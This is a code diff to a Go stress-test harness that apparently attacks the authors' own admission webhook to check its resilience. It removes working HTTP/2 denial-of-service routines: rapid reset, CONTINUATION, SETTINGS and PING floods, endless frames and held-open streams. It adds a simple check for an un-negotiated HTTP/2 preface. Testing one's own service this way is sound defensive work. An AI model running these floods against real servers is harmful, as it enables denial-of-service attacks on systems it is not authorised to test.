@@ -5,16 +5,12 @@ import (
 	"compress/gzip"
 	"context"
 	"crypto/rand"
-	"encoding/binary"
 	"fmt"
 	"io"
 	"net"
 	"slices"
 	"strings"
 	"time"
-
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 )
 
 // attack is something that somebody does to the webhook as often as he can, until
@@ -81,12 +77,7 @@ func attacks() []attack {
 		{"TLS garbage", 32, 1000, connections, send(nil, nil)},
 		{"plain HTTP", 32, 1000, connections, send(nil, []byte("GET /healthz HTTP/1.1\r\nHost: webhook\r\n\r\n"))},
 		{"handshakes one after the other", 8, 500, connections, handshakes},
-		{"HTTP/2 rapid reset", 16, 5000, requests, frames(rapidReset)},
-		{"HTTP/2 CONTINUATION flood", 16, 1000, connections, frames(continuations)},
-		{"HTTP/2 SETTINGS flood", 16, 5000, connections, frames(settings)},
-		{"HTTP/2 PING flood", 16, 5000, connections, frames(pings)},
-		{"HTTP/2 frames that do not end", 1000, 1500, connections, frames(largeFrames)},
-		{"HTTP/2 streams without end", 100, 100, requests, frames(openStreams)},
+		{"HTTP/2 without negotiation", 32, 1000, connections, send(asHTTP1, []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))},
 	}
 }
 
@@ -125,7 +116,7 @@ func notTaken(body []byte) func(context.Context, *strike) {
 	request := append([]byte(header(len(body), "")), body...)
 	return func(ctx context.Context, s *strike) {
 		for ctx.Err() == nil {
-			conn, err := s.dialTLS(ctx, "http/1.1")
+			conn, err := s.dialTLS(ctx)
 			s.attempts.Add(1)
 			if err != nil {
 				continue
@@ -141,7 +132,7 @@ func notTaken(body []byte) func(context.Context, *strike) {
 // connect opens a connection; asHTTP1 one over TLS.
 type connect func(context.Context, *strike) (net.Conn, error)
 
-func asHTTP1(ctx context.Context, s *strike) (net.Conn, error) { return s.dialTLS(ctx, "http/1.1") }
+func asHTTP1(ctx context.Context, s *strike) (net.Conn, error) { return s.dialTLS(ctx) }
 
 // showing makes connections that show a certificate of a size, each another.
 func showing(size int) connect {
@@ -150,7 +141,7 @@ func showing(size int) connect {
 		if err != nil {
 			return nil, err
 		}
-		return s.dialTLS(ctx, "http/1.1", certificate)
+		return s.dialTLS(ctx, certificate)
 	}
 }
 
@@ -283,116 +274,4 @@ func postOnce(ctx context.Context, s *strike, body []byte, more string) {
 			return
 		}
 	}
-}
-
-// frames opens an HTTP/2 connection and sends frames until it breaks, and begins
-// again. What the webhook says is not listened to, but by attacks that say so.
-func frames(flood func(ctx context.Context, s *strike, framer *http2.Framer, conn net.Conn) error) func(context.Context, *strike) {
-	return func(ctx context.Context, s *strike) {
-		for ctx.Err() == nil {
-			conn, err := s.dialTLS(ctx, "h2")
-			if err != nil {
-				s.attempts.Add(1)
-				continue
-			}
-			framer := http2.NewFramer(conn, conn)
-			framer.AllowIllegalWrites = true
-			_, _ = io.WriteString(conn, http2.ClientPreface)
-			_ = framer.WriteSettings()
-			for err == nil {
-				s.attempts.Add(1)
-				err = flood(ctx, s, framer, conn)
-			}
-			_ = conn.Close()
-		}
-	}
-}
-
-// fields are the header of a request to mutate, in HPACK.
-func fields() []byte {
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	for _, field := range [][2]string{
-		{":method", "POST"}, {":scheme", "https"}, {":authority", "webhook"}, {":path", "/mutate"}, {"content-type", "application/json"},
-	} {
-		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
-	}
-	return block.Bytes()
-}
-
-const streamsOfOneConnection = 100_000
-
-func rapidReset(ctx context.Context, s *strike, framer *http2.Framer, conn net.Conn) error {
-	go func() { _, _ = io.Copy(io.Discard, conn) }()
-	header := fields()
-	for id := uint32(1); id < streamsOfOneConnection; id += 2 {
-		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header, EndHeaders: true}); err != nil {
-			return err
-		}
-		if err := framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
-			return err
-		}
-		s.attempts.Add(1)
-	}
-	return io.EOF
-}
-
-func continuations(_ context.Context, s *strike, framer *http2.Framer, _ net.Conn) error {
-	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields()}); err != nil {
-		return err
-	}
-	var block bytes.Buffer
-	_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 8<<10), Sensitive: true})
-	for {
-		s.attempts.Add(1)
-		if err := framer.WriteContinuation(1, false, block.Bytes()); err != nil {
-			return err
-		}
-	}
-}
-
-func settings(_ context.Context, _ *strike, framer *http2.Framer, _ net.Conn) error {
-	return framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
-}
-
-func pings(_ context.Context, _ *strike, framer *http2.Framer, _ net.Conn) error {
-	return framer.WritePing(false, [8]byte{})
-}
-
-// largeFrames sends all but the end of a frame as large as Go takes by default, and
-// waits for the end of the connection.
-func largeFrames(_ context.Context, _ *strike, framer *http2.Framer, conn net.Conn) error {
-	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: fields(), EndHeaders: true}); err != nil {
-		return err
-	}
-	const length = 1 << 20
-	head := binary.BigEndian.AppendUint32(nil, length<<8) // 24 bits of length, type DATA
-	head = append(head, 0, 0, 0, 0, 1)
-	if _, err := conn.Write(append(head, make([]byte, length-1)...)); err != nil {
-		return err
-	}
-	_, err := io.Copy(io.Discard, conn)
-	if err == nil {
-		err = io.EOF
-	}
-	return err
-}
-
-// openStreams opens as many streams as it may, sends as much as it may on each, and
-// leaves them open.
-func openStreams(_ context.Context, _ *strike, framer *http2.Framer, conn net.Conn) error {
-	for stream := range uint32(100) {
-		id := 2*stream + 1
-		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields(), EndHeaders: true}); err != nil {
-			return err
-		}
-		if err := framer.WriteData(id, false, make([]byte, 640)); err != nil {
-			return err
-		}
-	}
-	_, err := io.Copy(io.Discard, conn)
-	if err == nil {
-		err = io.EOF
-	}
-	return err
 }
